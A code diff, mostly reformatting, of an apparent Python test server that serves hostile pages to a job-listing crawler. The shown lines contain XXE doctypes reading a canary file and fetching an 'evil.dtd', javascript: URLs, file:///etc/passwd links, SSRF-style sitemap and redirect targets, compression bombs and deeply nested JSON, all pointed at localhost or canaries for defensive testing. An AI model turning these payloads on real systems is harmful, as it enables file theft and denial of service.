@@ -45,20 +45,36 @@ STALL_SECONDS = 120  # slowloris answers give up after this (the crawl must not 
 STREAM_CHUNK = 64 * 1024
 
 ADS = {
-    1: ("Dicari Operator Produksi Pabrik Elektronik Batam",
-        ("PT Sinar Cahaya Elektronik (fiktif) membuka lowongan operator produksi untuk pabrik di "
-        "Batam. Pendidikan minimal SMK, gaji sesuai UMK Batam, kontrak satu tahun, mes disediakan. "
-        "Kirim lamaran lewat WA HRD 0812-5550-1101.")),
-    2: ("Lowongan Sopir Pribadi Jakarta Selatan",
-        ("Keluarga di Jakarta Selatan mencari sopir pribadi berpengalaman, SIM A aktif, jujur dan "
-        "tidak merokok. Gaji dibicarakan saat wawancara. Hubungi Bu Ratna 0813-5551-2202.")),
-    3: ("Kerja ke Malaysia langsung berangkat tanpa paspor, semua biaya ditanggung",
-        ("Dibutuhkan 20 orang kerja kebun sawit di Malaysia. Tidak perlu paspor dan tidak perlu "
-        "pelatihan, berangkat minggu ini lewat jalur cepat, biaya potong gaji. WA 0857-5552-3303.")),
-    4: ("Admin Gudang Surabaya, lulusan SMA",
-        ("Toko bahan bangunan (fiktif) di Surabaya mencari admin gudang: mencatat stok, bisa Excel, "
-        "jujur dan teliti. Gaji Rp 4.200.000. Lamaran ke 0821-5553-4404.")),
-}  # fmt: skip
+    1: (
+        "Dicari Operator Produksi Pabrik Elektronik Batam",
+        (
+            "PT Sinar Cahaya Elektronik (fiktif) membuka lowongan operator produksi untuk pabrik di "
+            "Batam. Pendidikan minimal SMK, gaji sesuai UMK Batam, kontrak satu tahun, mes disediakan. "
+            "Kirim lamaran lewat WA HRD 0812-5550-1101."
+        ),
+    ),
+    2: (
+        "Lowongan Sopir Pribadi Jakarta Selatan",
+        (
+            "Keluarga di Jakarta Selatan mencari sopir pribadi berpengalaman, SIM A aktif, jujur dan "
+            "tidak merokok. Gaji dibicarakan saat wawancara. Hubungi Bu Ratna 0813-5551-2202."
+        ),
+    ),
+    3: (
+        "Kerja ke Malaysia langsung berangkat tanpa paspor, semua biaya ditanggung",
+        (
+            "Dibutuhkan 20 orang kerja kebun sawit di Malaysia. Tidak perlu paspor dan tidak perlu "
+            "pelatihan, berangkat minggu ini lewat jalur cepat, biaya potong gaji. WA 0857-5552-3303."
+        ),
+    ),
+    4: (
+        "Admin Gudang Surabaya, lulusan SMA",
+        (
+            "Toko bahan bangunan (fiktif) di Surabaya mencari admin gudang: mencatat stok, bisa Excel, "
+            "jujur dan teliti. Gaji Rp 4.200.000. Lamaran ke 0821-5553-4404."
+        ),
+    ),
+}
 # What each hostile listing leaves out, though its benign version showed it.
 LEFT_OUT = 4
 
@@ -149,8 +165,12 @@ class HostileSites:
                 if form.get("reset_hosts"):
                     self.hosts_seen.clear()
         with self._lock:
-            state = {"mode": self.mode, "listener_port": self.listener_port,
-                     "canary": self.canary, "hosts_seen": dict(self.hosts_seen)}  # fmt: skip
+            state = {
+                "mode": self.mode,
+                "listener_port": self.listener_port,
+                "canary": self.canary,
+                "hosts_seen": dict(self.hosts_seen),
+            }
         send(handler, 200, json.dumps(state).encode(), "application/json")
 
     # --- where the attacks point ----------------------------------------------------------------
@@ -332,10 +352,16 @@ class HostileSites:
     ) -> None:
         number = int(rest.removeprefix("j")) if rest.removeprefix("j").isdigit() else 0
         title, text = ADS.get(number, (f"Lowongan nomor {number}", "Lowongan kerja (fiktif)."))
-        posting = {"@context": "https://schema.org", "@type": "JobPosting", "title": title,
-                   "description": text, "identifier": f"j{number}", "datePosted": "2026-11-20",
-                   "hiringOrganization": {"@type": "Organization", "name": "PT Contoh (fiktif)"},
-                   "url": "javascript:alert(1)" if self.hostile else f"/hostile/jobs/j{number}"}  # fmt: skip
+        posting = {
+            "@context": "https://schema.org",
+            "@type": "JobPosting",
+            "title": title,
+            "description": text,
+            "identifier": f"j{number}",
+            "datePosted": "2026-11-20",
+            "hiringOrganization": {"@type": "Organization", "name": "PT Contoh (fiktif)"},
+            "url": "javascript:alert(1)" if self.hostile else f"/hostile/jobs/j{number}",
+        }
         script = json.dumps(posting).replace("</", "<\\/")
         send(
             handler,
@@ -363,8 +389,9 @@ class HostileSites:
         posts = "".join(telegram_post(channel, n, 10 if self.hostile else 0) for n in (1, 2, 3))
         more_html = (
             f'<div class="tgme_widget_message_centered"><a href="{escape(more)}" class="tme_messages_more" data-before="1"></a></div>'
-            if self.hostile and more and not params.get("before") else ""
-        )  # fmt: skip
+            if self.hostile and more and not params.get("before")
+            else ""
+        )
         send(
             handler,
             200,
@@ -386,8 +413,10 @@ class HostileSites:
         doctype, extra, channel_links = "", "", ""
         if self.hostile:
             if rest == "xxe":
-                doctype = (f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{self.canary}">'
-                           f'<!ENTITY % remote SYSTEM "http://127.0.0.1:{self.listener_port}/evil.dtd"> %remote;]>')  # fmt: skip
+                doctype = (
+                    f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{self.canary}">'
+                    f'<!ENTITY % remote SYSTEM "http://127.0.0.1:{self.listener_port}/evil.dtd"> %remote;]>'
+                )
                 extra = "<item><title>XXE</title><guid>xxe-1</guid><description>&xxe;</description></item>"
             elif rest == "laughs":
                 doctype = BILLION_LAUGHS_DOCTYPE.format(root="rss")
@@ -400,13 +429,15 @@ class HostileSites:
             extra += "<item><title>Tautan skrip</title><link>javascript:alert(1)</link><guid>js-1</guid><description>Lowongan dengan tautan skrip.</description></item>"
             channel_links = (
                 f'<atom:link rel="next" href="http://127.0.0.1:{self.listener_port}/feed/{rest}"/>'
-                if rest != "atom-redirect" else
-                f'<atom:link rel="next" href="/hostile/redirect/307?to={quote("file://" + self.canary, safe="")}"/>'
-            )  # fmt: skip
-        body = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
-                '<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>'
-                f"<title>Info loker (fiktif)</title><link>{base}/hostile/feed</link>"
-                f"<description>Feed uji</description>{channel_links}{items}{extra}</channel></rss>")  # fmt: skip
+                if rest != "atom-redirect"
+                else f'<atom:link rel="next" href="/hostile/redirect/307?to={quote("file://" + self.canary, safe="")}"/>'
+            )
+        body = (
+            f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
+            '<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>'
+            f"<title>Info loker (fiktif)</title><link>{base}/hostile/feed</link>"
+            f"<description>Feed uji</description>{channel_links}{items}{extra}</channel></rss>"
+        )
         send(handler, 200, body.encode(), "application/rss+xml; charset=utf-8")
 
     def sitemap(
@@ -417,12 +448,19 @@ class HostileSites:
         if rest == "_index.xml":
             maps = [f"{base}/hostile/sitemap.xml"]
             if self.hostile:
-                maps += [f"http://127.0.0.1:{self.listener_port}/sitemap.xml", f"file://{self.canary}",
-                         f"{base}/hostile/sitemap-xxe.xml", f"{base}/hostile/sitemap-laughs.xml",
-                         f"{base}/hostile/redirect/301?to={quote(f'http://[::1]:{self.listener_port}/s.xml', safe='')}",
-                         "javascript:void(0)"]  # fmt: skip
-            body = ('<?xml version="1.0" encoding="UTF-8"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
-                    + "".join(f"<sitemap><loc>{escape(m)}</loc></sitemap>" for m in maps) + "</sitemapindex>")  # fmt: skip
+                maps += [
+                    f"http://127.0.0.1:{self.listener_port}/sitemap.xml",
+                    f"file://{self.canary}",
+                    f"{base}/hostile/sitemap-xxe.xml",
+                    f"{base}/hostile/sitemap-laughs.xml",
+                    f"{base}/hostile/redirect/301?to={quote(f'http://[::1]:{self.listener_port}/s.xml', safe='')}",
+                    "javascript:void(0)",
+                ]
+            body = (
+                '<?xml version="1.0" encoding="UTF-8"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+                + "".join(f"<sitemap><loc>{escape(m)}</loc></sitemap>" for m in maps)
+                + "</sitemapindex>"
+            )
         else:
             doctype, locs = "", benign
             if self.hostile:
@@ -440,8 +478,10 @@ class HostileSites:
                 f"<url><loc>{loc if loc.startswith('&') else escape(loc)}</loc><lastmod>2026-11-20</lastmod></url>"
                 for loc in locs
             )
-            body = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
-                    f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>')  # fmt: skip
+            body = (
+                f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
+                f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>'
+            )
         send(handler, 200, body.encode(), "application/xml; charset=utf-8")
 
     # --- redirects and meta refreshes -----------------------------------------------------------
@@ -504,8 +544,13 @@ class HostileSites:
         if kind not in encodings:
             send(handler, 404, b"no such bomb")
             return
-        send(handler, 200, self.bomb_body(kind), "text/html; charset=utf-8",
-             {"Content-Encoding": encodings[kind]})  # fmt: skip
+        send(
+            handler,
+            200,
+            self.bomb_body(kind),
+            "text/html; charset=utf-8",
+            {"Content-Encoding": encodings[kind]},
+        )
 
     def build_bombs(self) -> None:
         for kind in ("gzip", "deflate", "gzip-gzip"):
@@ -539,8 +584,11 @@ class HostileSites:
         depth = 100_000
         script = "[" * depth + "]" * depth
         nested = '{"@type": "JobPosting", "title": ' * 2000 + '"x"' + "}" * 2000
-        body = page("Lowongan", f'<script type="application/ld+json">{script}</script>'
-                    f'<script type="application/ld+json">{nested}</script><h1>Lowongan</h1><div class="body">x</div>')  # fmt: skip
+        body = page(
+            "Lowongan",
+            f'<script type="application/ld+json">{script}</script>'
+            f'<script type="application/ld+json">{nested}</script><h1>Lowongan</h1><div class="body">x</div>',
+        )
         send(handler, 200, body)
 
 
@@ -555,27 +603,44 @@ BILLION_LAUGHS_DOCTYPE = (
 _AD_PAGE = ADS[2]
 ENCODINGS: dict[str, tuple[str, bytes]] = {
     # UTF-8 bytes sent as UTF-16
-    "utf16-label": ("text/html; charset=utf-16",
-                    f"<html><body><h1>{_AD_PAGE[0]}</h1><div class='body'>{_AD_PAGE[1]}</div></body></html>".encode()),
+    "utf16-label": (
+        "text/html; charset=utf-16",
+        f"<html><body><h1>{_AD_PAGE[0]}</h1><div class='body'>{_AD_PAGE[1]}</div></body></html>".encode(),
+    ),
     # bytes that are no UTF-8 at all, declared UTF-8
-    "invalid-utf8": ("text/html; charset=utf-8",
-                     (b"<html><body><h1>Lowongan \xff\xfe\xc3\x28 \xed\xa0\x80 \xf8\x88\x80\x80\x80</h1>"
-                     b"<div class='body'>Gaji \x80\x81\x82 besar \xc0\xaf</div></body></html>")),
+    "invalid-utf8": (
+        "text/html; charset=utf-8",
+        (
+            b"<html><body><h1>Lowongan \xff\xfe\xc3\x28 \xed\xa0\x80 \xf8\x88\x80\x80\x80</h1>"
+            b"<div class='body'>Gaji \x80\x81\x82 besar \xc0\xaf</div></body></html>"
+        ),
+    ),
     # a charset no codec knows
-    "unknown-charset": ("text/html; charset=x-klingon-9",
-                        b"<html><body><h1>Lowongan kerja</h1><div class='body'>Isi \xe2\x82\xac</div></body></html>"),
+    "unknown-charset": (
+        "text/html; charset=x-klingon-9",
+        b"<html><body><h1>Lowongan kerja</h1><div class='body'>Isi \xe2\x82\xac</div></body></html>",
+    ),
     # NUL bytes and control characters in the text
-    "nul-bytes": ("text/html; charset=utf-8",
-                  b"<html><body><h1>Lowongan\x00kerja\x01\x02</h1><div class='body'>a\x00b\x1b[31m</div></body></html>"),
+    "nul-bytes": (
+        "text/html; charset=utf-8",
+        b"<html><body><h1>Lowongan\x00kerja\x01\x02</h1><div class='body'>a\x00b\x1b[31m</div></body></html>",
+    ),
     # a UTF-16 byte-order mark on a page declared windows-1252
-    "bom-mismatch": ("text/html; charset=windows-1252",
-                     b"\xff\xfe" + "<html><body><h1>Lowongan</h1><div class='body'>isi</div></body></html>".encode("utf-16-le")),
-}  # fmt: skip
+    "bom-mismatch": (
+        "text/html; charset=windows-1252",
+        b"\xff\xfe"
+        + "<html><body><h1>Lowongan</h1><div class='body'>isi</div></body></html>".encode(
+            "utf-16-le"
+        ),
+    ),
+}
 
 
 def page(title: str, body: str, head: str = "") -> bytes:
-    return (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{escape(title)}</title>{head}</head>'
-            f"<body>{body}</body></html>").encode()  # fmt: skip
+    return (
+        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{escape(title)}</title>{head}</head>'
+        f"<body>{body}</body></html>"
+    ).encode()
 
 
 def telegram_post(channel: str, number: int, offset: int = 0) -> str:
@@ -584,11 +649,13 @@ def telegram_post(channel: str, number: int, offset: int = 0) -> str:
     links = (
         ' <a href="http://[::1">rusak</a> <a href="file:///etc/passwd">berkas</a>' if offset else ""
     )
-    return (f'<div class="tgme_widget_message_wrap"><div class="tgme_widget_message" data-post="{channel}/{number + offset}">'
-            f'<div class="tgme_widget_message_bubble"><div class="tgme_widget_message_text">{escape(title)}<br/>{escape(text)}'
-            f'{links}</div>'
-            f'<a class="tgme_widget_message_date"><time datetime="2026-11-2{number}T08:00:00+00:00"></time></a>'
-            "</div></div></div>")  # fmt: skip
+    return (
+        f'<div class="tgme_widget_message_wrap"><div class="tgme_widget_message" data-post="{channel}/{number + offset}">'
+        f'<div class="tgme_widget_message_bubble"><div class="tgme_widget_message_text">{escape(title)}<br/>{escape(text)}'
+        f"{links}</div>"
+        f'<a class="tgme_widget_message_date"><time datetime="2026-11-2{number}T08:00:00+00:00"></time></a>'
+        "</div></div></div>"
+    )
 
 
 def send(
